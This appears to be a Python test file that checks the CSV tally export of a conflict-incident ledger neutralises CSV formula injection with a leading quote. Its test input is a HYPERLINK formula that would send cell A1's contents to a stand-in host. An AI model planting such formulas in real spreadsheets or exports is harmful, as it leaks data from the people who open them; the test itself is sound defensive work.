"""The tally as CSV (``warledger tally --format csv``, the API's ``format=csv``) is opened in spreadsheets: a group's
name that starts a formula (an analyst's correction, a report's words) is neutralised as the CSV exports do it
(OWASP: a leading single quote), and the figures stay numbers.  On SQLite and PostgreSQL.  Invented names."""
from __future__ import annotations

import csv
import io

from handmade import counts, ev, incident, place  # type: ignore[import-not-found]
from warledger.record import Report
from warledger.store import Ledger
from warledger.store.tallies import tally_csv

TEXT = "Gunmen attacked a checkpoint in Tell Samra, killing 3 soldiers."
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"see")'


def test_a_group_that_starts_a_formula_is_neutralised_in_the_tally_csv(db: str) -> None:
    inc = incident(TEXT, date="2023-03-04", where=place("Ariha"), killed=counts(fighters=3),
                   evidence=[ev(TEXT, "killed.fighters", "3 soldiers")])
    with Ledger(db) as ledger:
        ledger.ingest([Report(id="t1", text=TEXT, published="2023-03-05", source="Example Watch", incidents=[inc])])
        iid = next(iter(ledger.incidents()))["incident_id"]
        ledger.correct(iid, "actor1", FORMULA, who="tester", reason="a pasted cell")
        text = tally_csv(ledger.tally(by="actor1"), "actor1")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["actor1"] for r in rows] == ["'" + FORMULA]
    assert rows[0]["incidents"] == "1" and rows[0]["killed_fighters"] == "3", rows[0]
